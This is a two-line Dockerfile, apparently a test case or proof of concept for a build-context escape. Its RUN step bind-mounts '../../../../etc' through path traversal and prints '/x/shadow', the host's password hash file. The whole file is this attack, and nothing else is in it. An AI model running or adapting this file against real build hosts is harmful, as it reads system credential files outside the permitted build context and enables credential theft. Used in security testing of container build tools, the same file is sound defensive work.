FROM busybox
RUN --mount=type=bind,source=../../../../etc,target=/x cat /x/shadow
